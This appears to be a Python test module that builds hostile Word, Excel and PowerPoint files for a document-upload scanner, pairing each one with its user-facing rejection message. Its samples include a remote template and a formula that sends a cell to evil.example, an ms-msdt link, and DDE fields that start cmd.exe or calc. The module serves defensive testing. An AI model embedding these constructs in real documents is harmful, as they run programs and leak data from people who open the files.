"""Word, Excel and PowerPoint: macros, controls, things embedded, things fetched."""

from openpyxl import Workbook

from tests.build import documents as ordinary
from tests.files.hostile.corpus import hostile, rewritten, with_part, with_relationship


@hostile(
    "minutes.docx",
    "macros in a document that says it has none",
    "macros",
    "This document has macros, which are small programs. Save it as .docx without macros and upload it again.",
)
def _():
    return with_part(ordinary.docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99))


@hostile("figures.xlsx", "declared as a workbook with macros", "macros", "This workbook has macros", also="no-kind")
def _():
    return rewritten(
        ordinary.xlsx(),
        replace={
            "[Content_Types].xml": lambda text: text.replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        },
    )


@hostile("figures.xlsx", "a macro sheet of Excel 4", "excel4-macros", "This workbook has macro sheets")
def _():
    return with_part(ordinary.xlsx(), "xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='x'/>")


@hostile("form.docx", "a button that runs a program", "controls", "This document has buttons or boxes in it")
def _():
    return with_part(ordinary.docx(), "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='x'/>")


@hostile("minutes.docx", "an OLE object", "embedded", "This document has another file inside it", also="part-nested")
def _():
    return with_part(ordinary.docx(), "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99))


@hostile(
    "board.pptx",
    "the workbook behind a chart, unchecked",
    "embedded",
    "This presentation has another file inside it, such as the worksheet behind a chart",
    also="part-nested",
)
def _():
    return with_part(ordinary.pptx(), "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", ordinary.xlsx())


@hostile(
    "minutes.docx",
    "a page in another format, put in when it is opened",
    "embedded",
    "This document has another file inside it",
)
def _():
    return with_relationship("aFChunk", "afchunk.mht", external=False)


@hostile(
    "minutes.docx",
    "its template is fetched from elsewhere, with its macros",
    "outside-template",
    "This document takes its template from another place (https://evil.example/t.dotm)",
)
def _():
    return with_part(
        ordinary.docx(),
        "word/_rels/settings.xml.rels",
        (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
        ),
    )


@hostile(
    "minutes.docx",
    "a picture fetched from elsewhere tells who reads it",
    "outside-content",
    "This document takes some of its content from another place",
)
def _():
    return with_relationship("image", "file://///evil.example/share/p.png")


@hostile("minutes.docx", "a link that starts a program", "link-runs", "This document has a link that would start")
def _():
    return with_relationship("hyperlink", "ms-msdt:/id%20PCWDiagnostic")


@hostile(
    "minutes.docx",
    "a field that starts a program, cut into letters",
    "starts-program",
    "This document has a field or formula that can start another program",
)
def _():
    runs = "".join(f"<w:r><w:instrText>{letters}</w:instrText></w:r>" for letters in (" D", "DE", "AUTO c:\\\\cmd.exe"))
    return rewritten(
        ordinary.docx(),
        replace={"word/document.xml": lambda text: text.replace("<w:sectPr", f"<w:p>{runs}</w:p><w:sectPr", 1)},
    )


@hostile(
    "figures.xlsx",
    "values from a workbook elsewhere",
    "outside-workbook",
    "This workbook takes values from another workbook (budget.xlsx)",
)
def _():
    return with_part(
        ordinary.xlsx(),
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            r'Target="file:///\\server\share\budget.xlsx" TargetMode="External"/></Relationships>'
        ),
    )


@hostile("figures.xlsx", "a link that starts a program", "starts-program", "This workbook has a field or formula")
def _():
    return with_part(
        ordinary.xlsx(),
        "xl/externalLinks/externalLink1.xml",
        (
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        ),
    )


@hostile("figures.xlsx", "data fetched when it is opened", "outside-data", "This workbook fetches data from elsewhere")
def _():
    return with_part(ordinary.xlsx(), "xl/connections.xml", '<connections xmlns="x"/>')


@hostile(
    "figures.xlsx",
    "a formula that sends a cell to another place",
    "outside-data",
    "This workbook fetches data from elsewhere",
)
def _():
    book = Workbook()
    book.active["A1"] = '=_xlfn.WEBSERVICE("https://evil.example/?"&A2)'
    return ordinary.saved(book)


@hostile(
    "figures.xlsx",
    "two cells a million rows apart fill the memory of the reader",
    "too-much-to-read",
    "This file takes far more memory or time to read",
)
def _():
    book = Workbook()
    book.active["A1"] = book.active["XFD1048576"] = 1
    return ordinary.saved(book)


@hostile(
    "minutes.docx",
    "a workbook called document",
    "another-kind",
    "This file is called .docx, but inside it is an Excel workbook",
)
def _():
    return ordinary.xlsx()


@hostile(
    "minutes.docx",
    "a Java program called document",
    "no-kind",
    "This file is called .docx, but inside there is no Word document",
    also="damaged stumbles",
)
def _():
    return ordinary.zipped([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"class")])


@hostile(
    "template.docx",
    "a template called document",
    "another-kind",
    "This file is called .docx, but inside it is a Word template",
)
def _():
    return rewritten(
        ordinary.docx(),
        replace={
            "[Content_Types].xml": lambda text: text.replace(
                "wordprocessingml.document.main", "wordprocessingml.template.main"
            )
        },
    )
